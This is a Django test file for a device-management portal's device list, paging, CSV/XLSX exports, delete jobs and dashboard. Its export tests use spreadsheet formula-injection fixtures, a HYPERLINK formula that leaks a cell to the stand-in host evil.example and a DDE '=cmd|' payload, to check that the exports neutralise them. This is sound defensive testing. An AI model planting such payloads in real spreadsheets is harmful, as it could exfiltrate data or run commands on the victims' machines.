"""The device list (search, filters, keyset pages, exports, delete jobs), the device page and the dashboard panel."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from html import unescape
from urllib.parse import parse_qs, urlsplit

import python_calamine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from kdp.models import Customer, Device, submit_upload
from kdp.tasks import run_transfer
from portal.models import AuditEvent, Job
from tests.base import BaseTestCase, body, fresh_imeis, make_user
from tests.kdp.helpers import finished_job, imei_csv, make_upload, ready_account

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def make_devices(account, identifiers, **fields) -> list[Device]:
    defaults = {"kind": "imei", "state": Device.State.REGISTERED}
    return Device.objects.bulk_create(
        [Device(account=account, identifier=i, imei=i, **{**defaults, **fields}) for i in identifiers]
    )


def listed(html: str) -> list[str]:
    """Identifiers in the device table, in page order."""
    return re.findall(r'<a href="/kdp/devices/\d+/"><code>(\w+)</code></a>', html)


def next_link(html: str) -> str | None:
    m = re.search(r'<a href="(\?[^"]*)" hx-get="[^"]*"[^>]*>Next page</a>', html)
    return unescape(m.group(1)) if m else None


class DeviceListTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.acme = ready_account("Acme Mobile")
        self.beta = ready_account("Beta Mobile")
        self.cafes = Customer.objects.create(account=self.acme, customer_id="4600000001", name="Harbour Cafés")
        self.taxis = Customer.objects.create(account=self.acme, customer_id="4600000002", name="City Taxis")
        self.cafe_phones = make_devices(
            self.acme, fresh_imeis(3, "35100000"), customer=self.cafes,
            registered_at=datetime(2025, 2, 10, 12, tzinfo=UTC),
        )  # fmt: skip
        self.taxi_phones = make_devices(
            self.acme, fresh_imeis(2, "35200000"), customer=self.taxis,
            registered_at=datetime(2025, 3, 10, 12, tzinfo=UTC),
        )  # fmt: skip
        self.failed = make_devices(self.acme, fresh_imeis(1, "35300000"), state=Device.State.FAILED)
        self.elsewhere = make_devices(self.beta, fresh_imeis(1, "35400000"))
        self.url = "/kdp/devices/"
        self.client.force_login(self.viewer)

    def get(self, **params) -> str:
        r = self.client.get(self.url, params)
        assert r.status_code == 200
        return r.content.decode()

    def test_it_lists_every_device_newest_first(self):
        everything = [*self.cafe_phones, *self.taxi_phones, *self.failed, *self.elsewhere]
        html = self.get()
        assert listed(html) == [d.identifier for d in reversed(everything)]
        assert "Harbour Cafés" in unescape(html) and "Not registered" in html
        assert next_link(html) is None

    def test_each_row_links_to_its_device_page(self):
        from django.urls import reverse

        html = self.get()
        for device in self.cafe_phones:
            link = reverse("kdp:device_detail", args=[device.pk])
            assert f'<a href="{link}"><code>{device.identifier}</code></a>' in html
            assert self.client.get(link).status_code == 200

    def test_it_searches_by_identifier_prefix(self):
        assert listed(self.get(q="3510")) == [d.identifier for d in self.cafe_phones]  # sorted by identifier
        assert listed(self.get(q=" 35-20 ")) == [d.identifier for d in self.taxi_phones]
        assert listed(self.get(q="9999")) == []

    def test_it_filters_by_customer_state_account_and_dates(self):
        assert set(listed(self.get(customer=self.taxis.pk))) == {d.identifier for d in self.taxi_phones}
        assert listed(self.get(state="failed")) == [self.failed[0].identifier]
        assert listed(self.get(account=self.beta.pk)) == [self.elsewhere[0].identifier]
        feb = listed(self.get(date_from="2025-02-01", date_to="2025-02-10"))  # date_to is inclusive
        assert set(feb) == {d.identifier for d in self.cafe_phones}
        assert set(listed(self.get(date_from="2025-03-01"))) == {d.identifier for d in self.taxi_phones}

    def test_it_filters_by_the_last_job(self):
        job = finished_job(self.cafes, succeeded=fresh_imeis(2, "35500000"))
        assert set(listed(self.get(job=job.pk))) == set(fresh_imeis(2, "35500000"))

    def test_it_sorts(self):
        everything = [*self.cafe_phones, *self.taxi_phones, *self.failed, *self.elsewhere]
        assert listed(self.get(sort="oldest")) == [d.identifier for d in everything]
        assert listed(self.get(sort="identifier")) == sorted(d.identifier for d in everything)
        assert listed(self.get(sort="newest", q="35")) == [d.identifier for d in reversed(everything)]

    def test_it_reports_invalid_filters_instead_of_failing(self):
        for params in (
            {"customer": "abc"},
            {"state": "lost"},
            {"date_from": "2025-13-01"},
            {"job": "-1"},
            {"sort": "random"},
            {"q": "3" * 21},
            {"account": "999"},
        ):
            r = self.client.get(self.url, params)
            assert r.status_code == 200, params
            assert b'<div class="errors">' in r.content, params
            assert listed(r.content.decode()) == [], params

    def test_it_returns_the_table_fragment_to_htmx(self):
        r = self.client.get(self.url, {"state": "failed"}, headers={"HX-Request": "true", "HX-Target": "device-table"})
        assert r.status_code == 200 and b"<html" not in r.content
        assert r.content.lstrip().startswith(b'<section id="device-table"')
        assert listed(r.content.decode()) == [self.failed[0].identifier]
        assert b'id="device-filters"' not in r.content
        assert "HX-Request" in r["Vary"]

    def test_it_shows_delete_controls_only_to_an_operator(self):
        assert "Delete selected" not in self.get()
        self.client.force_login(self.operator)
        html = self.get(account=self.acme.pk, state="registered")
        assert 'action="/kdp/devices/delete/"' in html and "Delete selected" in html
        assert f'<input type="hidden" name="account" value="{self.acme.pk}">' in html
        assert '<input type="hidden" name="state" value="registered">' in html
        assert html.count('type="checkbox" name="ids"') == 5

    def test_it_needs_a_login_the_role_and_get(self):
        self.client.logout()
        self.assertRedirects(self.client.get(self.url), "/login/?next=/kdp/devices/", fetch_redirect_response=False)
        self.client.force_login(self.outsider)
        assert self.client.get(self.url).status_code == 403
        self.client.force_login(self.operator)
        assert self.client.post(self.url).status_code == 405


class DevicePagingTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.acme = ready_account("Acme Mobile")
        customers = [
            Customer.objects.create(account=self.acme, customer_id=f"46000000{n:02d}", name=f"Customer {n}")
            for n in range(5)
        ]
        self.identifiers = fresh_imeis(130, "35600000")
        for n, chunk in enumerate(range(0, 130, 26)):
            make_devices(self.acme, self.identifiers[chunk : chunk + 26], customer=customers[n], model="SM-A556B")
        self.url = "/kdp/devices/"
        self.client.force_login(self.operator)

    def walk(self, query: str) -> list[list[str]]:
        pages = []
        link = query
        while link is not None:
            r = self.client.get(self.url + link)
            assert r.status_code == 200
            html = r.content.decode()
            pages.append(listed(html))
            link = next_link(html)
            assert len(pages) < 10
        return pages

    def test_it_pages_by_keyset_without_duplicates_or_gaps(self):
        for sort in ("newest", "oldest", "identifier"):
            pages = self.walk(f"?sort={sort}&model=SM-A556B")
            assert [len(p) for p in pages] == [50, 50, 30], sort
            seen = [i for page in pages for i in page]
            assert len(seen) == len(set(seen)) == 130, sort
            assert set(seen) == set(self.identifiers), sort
        assert [i for page in self.walk("?sort=identifier") for i in page] == sorted(self.identifiers)

    def test_the_next_link_keeps_the_filters(self):
        html = self.client.get(self.url, {"q": "3560", "model": "SM-A556B"}).content.decode()
        query = parse_qs(urlsplit(next_link(html)).query)
        assert query["q"] == ["3560"] and query["model"] == ["SM-A556B"]
        # the cursor is "identifier:id" (identifiers are unique per account only)
        assert query["after"][0].split(":")[0] == sorted(self.identifiers)[49]

    def test_a_page_costs_a_fixed_number_of_queries_and_counts_with_a_bound(self):
        self.client.get(self.url)  # warm the session and permission caches
        with CaptureQueriesContext(connection) as few:
            self.client.get(self.url, {"model": "SM-A556B"})
        make_devices(self.acme, fresh_imeis(200, "35700000"), model="SM-A556B")
        with CaptureQueriesContext(connection) as many:
            r = self.client.get(self.url, {"model": "SM-A556B"})
        assert len(listed(r.content.decode())) == 50
        assert len(many) == len(few) <= 8, [q["sql"] for q in many.captured_queries]
        # The one count is the list's total (portal.lists.total), bounded by a LIMITed subquery.
        counts = [q["sql"] for q in many.captured_queries if "COUNT(" in q["sql"].upper()]
        assert len(counts) == 1 and "LIMIT 10001" in counts[0]

    def test_identifier_pages_do_not_skip_the_same_imei_in_another_account(self):
        beta = ready_account("Beta Mobile")
        boundary = sorted(self.identifiers)[49]  # the last row of the first page
        twin = make_devices(beta, [boundary], model="SM-A556B")[0]
        seen = [i for page in self.walk("?sort=identifier&model=SM-A556B") for i in page]
        assert seen.count(twin.identifier) == 2 and len(seen) == 131


class DeviceExportTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.acme = ready_account("Acme Mobile")
        customer = Customer.objects.create(account=self.acme, customer_id="4600000001", name="@Harbour Cafés")
        self.imeis = fresh_imeis(2, "35100000")
        make_devices(self.acme, self.imeis[:1], customer=customer, model=FORMULA, order_no="-2+3")
        make_devices(self.acme, self.imeis[1:], state=Device.State.FAILED, model="SM-A556B")
        self.csv_url = "/kdp/devices/export.csv"
        self.xlsx_url = "/kdp/devices/export.xlsx"
        self.client.force_login(self.viewer)

    def test_it_exports_csv_with_formulas_neutralised(self):
        r = self.client.get(self.csv_url)
        assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(body(r).decode("utf-8-sig"))))
        assert rows[0][:2] == ["IMEI / serial", "Type"]
        by_imei = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
        assert set(by_imei) == set(self.imeis)
        evil = by_imei[self.imeis[0]]
        assert evil["Model"] == "'" + FORMULA
        assert evil["Customer"] == "'@Harbour Cafés" and evil["Order number"] == "'-2+3"
        assert AuditEvent.objects.filter(action="kdp.export", summary__format="csv").exists()

    def test_it_exports_csv_that_a_semicolon_locale_reads_without_formulas(self):
        # Excel in a ";" locale splits this "," file at every ";", and a cell starting "=cmd|" would run.
        Device.objects.filter(identifier=self.imeis[1]).update(
            model="x;=cmd|' /C calc'!A0;y", profile_alias='a,=HYPERLINK("http://x")'
        )
        data = body(self.client.get(self.csv_url))
        assert b"\"x;'=cmd|' /C calc'!A0;y\"" in data and b'"a,\'=HYPERLINK(""http://x"")"' in data
        for delimiter in (",", ";"):
            for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter):
                for cell in row:
                    assert cell.lstrip(' "')[:1] not in set("=+-@\t\r\n"), (delimiter, cell)

    def test_it_exports_xlsx_with_formulas_neutralised(self):
        r = self.client.get(self.xlsx_url)
        assert r.status_code == 200 and r["Content-Disposition"].endswith('.xlsx"')
        rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(body(r))).get_sheet_by_index(0).to_python()
        header = rows[0]
        evil = dict(zip(header, next(row for row in rows[1:] if row[0] == self.imeis[0]), strict=True))
        assert evil["Model"] == "'" + FORMULA and evil["Customer"] == "'@Harbour Cafés"
        for row in rows[1:]:
            for cell in row:
                assert not (isinstance(cell, str) and cell and cell[0] in "=+-@"), row

    def test_it_exports_only_the_filtered_devices(self):
        rows = list(
            csv.reader(io.StringIO(body(self.client.get(self.csv_url, {"state": "failed"})).decode("utf-8-sig")))
        )
        assert [row[0] for row in rows[1:]] == [self.imeis[1]]

    def test_it_refuses_another_format_or_an_invalid_filter(self):
        assert self.client.get("/kdp/devices/export.pdf").status_code == 400
        assert self.client.get(self.csv_url, {"date_from": "yesterday"}).status_code == 400

    def test_it_needs_a_login_the_role_and_get(self):
        self.client.logout()
        assert self.client.get(self.csv_url).status_code == 302
        self.client.force_login(self.outsider)
        assert self.client.get(self.xlsx_url).status_code == 403
        self.client.force_login(self.operator)
        assert self.client.post(self.csv_url).status_code == 405


class DeviceDeleteTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.acme = ready_account("Acme Mobile")
        self.beta = ready_account("Beta Mobile")
        self.cafes = Customer.objects.create(account=self.acme, customer_id="4600000001", name="Harbour Cafés")
        self.registered = make_devices(self.acme, fresh_imeis(4, "35100000"), customer=self.cafes)
        self.failed = make_devices(self.acme, fresh_imeis(1, "35200000"), state=Device.State.FAILED)
        self.theirs = make_devices(self.beta, fresh_imeis(1, "35300000"), customer=None)
        self.url = "/kdp/devices/delete/"
        self.client.force_login(self.operator)

    def test_it_queues_a_delete_job_for_the_selected_devices(self):
        ids = [self.registered[0].pk, self.registered[1].pk, self.failed[0].pk, self.theirs[0].pk]
        r = self.client.post(self.url, {"scope": "selected", "ids": ids, "account": self.acme.pk})
        job = Job.objects.get(kind="kdp.delete")
        self.assertRedirects(r, f"/kdp/jobs/{job.pk}/", fetch_redirect_response=False)
        # only the account's registered devices count: not the failed one, not another account's
        assert (job.total, job.account, job.created_by) == (2, self.acme, self.operator)
        assert sorted(job.params["filter"]["ids"]) == sorted(ids)
        assert job.func == "kdp.tasks.run_transfer"
        assert AuditEvent.objects.filter(action="kdp.delete", target_id=str(job.pk)).exists()

    def test_it_queues_a_delete_job_for_every_matching_device(self):
        r = self.client.post(self.url, {"scope": "matching", "account": self.acme.pk, "customer": self.cafes.pk})
        job = Job.objects.get(kind="kdp.delete")
        assert r["Location"] == f"/kdp/jobs/{job.pk}/"
        assert job.total == 4 and job.params["filter"] == {"customer": self.cafes.pk}
        self.assertContains(self.client.get(r["Location"]), "Delete 4 devices from the device list")

    def test_it_needs_one_account(self):
        r = self.client.post(self.url, {"scope": "matching"}, follow=True)
        self.assertContains(r, "Choose one Knox account in the filter before deleting")
        assert not Job.objects.exists()

    def test_it_needs_a_selection_or_a_match(self):
        r = self.client.post(self.url, {"scope": "selected", "account": self.acme.pk}, follow=True)
        self.assertContains(r, "Select at least one device")
        r = self.client.post(self.url, {"scope": "matching", "account": self.acme.pk, "state": "failed"}, follow=True)
        self.assertContains(r, "No registered device matches this filter.")
        assert not Job.objects.exists()

    def test_it_rejects_a_forged_request(self):
        for data in (
            {"scope": "everything", "account": self.acme.pk},
            {"scope": "selected", "ids": ["one"], "account": self.acme.pk},
            {"scope": "matching", "account": self.acme.pk, "date_to": "later"},
        ):
            assert self.client.post(self.url, data).status_code == 400, data
        assert not Job.objects.exists()

    def test_it_forbids_a_viewer_and_an_anonymous_user(self):
        self.client.force_login(self.viewer)
        assert self.client.post(self.url, {"scope": "matching", "account": self.acme.pk}).status_code == 403
        self.client.logout()
        r = self.client.post(self.url, {"scope": "matching", "account": self.acme.pk})
        assert r.status_code == 302 and r["Location"].startswith("/login/")
        assert not Job.objects.exists()

    def test_it_is_post_only(self):
        assert self.client.get(self.url).status_code == 405


class DeviceDetailTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        acme = ready_account("Acme Mobile")
        cafes = Customer.objects.create(account=acme, customer_id="4600000001", name="Harbour Cafés")
        self.device = make_devices(acme, fresh_imeis(1), customer=cafes, model="SM-A556B", profile_alias="Kiosk")[0]
        self.url = f"/kdp/devices/{self.device.pk}/"

    def test_it_shows_the_device(self):
        self.client.force_login(self.viewer)
        r = self.client.get(self.url)
        self.assertContains(r, f"<h1><code>{self.device.identifier}</code></h1>")
        self.assertContains(r, "Harbour Cafés (4600000001)")
        self.assertContains(r, "never reconciled")
        self.assertContains(r, "Nothing recorded yet.")

    def test_it_404s_for_an_unknown_device(self):
        self.client.force_login(self.viewer)
        assert self.client.get(f"/kdp/devices/{self.device.pk + 100}/").status_code == 404

    def test_it_needs_a_login_the_role_and_get(self):
        assert self.client.get(self.url).status_code == 302
        self.client.force_login(self.outsider)
        assert self.client.get(self.url).status_code == 403
        self.client.force_login(self.operator)
        assert self.client.post(self.url).status_code == 405


def test_the_device_page_shows_the_knox_transaction_and_the_audit_event(client, customer, knox_sandbox, quick_kdp):
    operator = make_user("olivia", "operator")
    imei = fresh_imeis(1, "35920000")[0]
    job = submit_upload(
        make_upload(customer.account, imei_csv([imei]), "one.csv"),
        user=operator,
        customer=customer,
        profile_alias=customer.aliases.first().name,
    )
    run_transfer(job.pk)
    device = Device.objects.get(account=customer.account, identifier=imei)
    assert device.state == Device.State.REGISTERED
    client.force_login(operator)
    html = unescape(client.get(f"/kdp/devices/{device.pk}/").content.decode())
    timeline = html[html.index('<ul class="timeline">') :]
    assert f'in <a href="/kdp/jobs/{job.pk}/">job #{job.pk}</a>' in timeline
    assert f"Register devices to {customer.customer_id}" in timeline
    assert "Succeeded" in timeline
    assert f"<strong>olivia</strong> kdp.upload Job #{job.pk}" in timeline
    assert listed(client.get("/kdp/devices/", {"job": job.pk}).content.decode()) == [imei]


class DashboardPanelTestCase(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        acme = ready_account("Acme Mobile")
        cafes = Customer.objects.create(account=acme, customer_id="4600000001", name="Harbour Cafés", device_count=3)
        make_devices(acme, fresh_imeis(3, "35100000"), customer=cafes)
        make_devices(acme, fresh_imeis(2, "35200000"), state=Device.State.FAILED)
        self.url = "/"

    def test_it_shows_devices_by_state_top_customers_and_the_chart(self):
        self.client.force_login(self.viewer)
        r = self.client.get(self.url)
        html = unescape(r.content.decode())
        assert "KDP devices by state" in html
        assert "<li><span>Registered</span><strong>3</strong></li>" in html
        assert "<li><span>Not registered</span><strong>2</strong></li>" in html
        assert "<li><span>Deleted</span><strong>0</strong></li>" in html
        assert "Harbour Cafés</a></span><strong>3</strong>" in html
        assert re.search(r'<svg [^>]*role="img"', html)

    def test_the_htmx_refresh_leaves_the_panel_out(self):
        self.client.force_login(self.viewer)
        r = self.client.get(self.url, headers={"HX-Request": "true"})
        assert b"<html" not in r.content and b"KDP devices by state" not in r.content

    def test_it_needs_a_login_and_the_role(self):
        self.assertRedirects(self.client.get(self.url), "/login/?next=/", fetch_redirect_response=False)
        self.client.force_login(self.outsider)
        assert self.client.get(self.url).status_code == 403
